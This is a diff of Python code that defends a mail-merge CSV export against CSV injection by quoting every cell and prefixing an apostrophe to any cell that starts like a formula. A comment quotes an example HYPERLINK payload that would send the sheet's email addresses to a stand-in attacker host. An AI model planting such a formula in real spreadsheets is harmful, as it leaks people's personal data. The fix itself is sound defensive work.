@@ -200,11 +200,24 @@ def check_merge_path(path: Path, repository: Path) -> Path:
     return target
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection): a name
+# such as =HYPERLINK("https://evil.example/?"&A2, "Click") would send the sheet's emails away.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_cell(text: str) -> str:
+    """`text` as a CSV cell a spreadsheet shows and never evaluates: OWASP's CSV injection
+    advice, a leading apostrophe before a cell that would start a formula."""
+    return "'" + text if text.startswith(_FORMULA_STARTS) else text
+
+
 def write_mail_merge(target: Path, notices: Sequence[Notice]) -> None:
-    """A CSV for a mail merge: one row per badge; readable only by its owner (it holds emails)."""
+    """A CSV for a mail merge: one row per badge; readable only by its owner (it holds emails).
+    Every cell is quoted, and one that a spreadsheet would run as a formula is defused."""
     buffer = io.StringIO()
-    writer = csv.writer(buffer, lineterminator="\n")
+    writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
     writer.writerow(MERGE_COLUMNS)
     for n in notices:
-        writer.writerow((n.email.strip(), n.name or "", n.credential, n.badge_url, n.image_url))
+        row = (n.email.strip(), n.name or "", n.credential, n.badge_url, n.image_url)
+        writer.writerow([spreadsheet_cell(cell) for cell in row])
     write_atomically(target, buffer.getvalue().encode("utf-8"), mode=0o600)
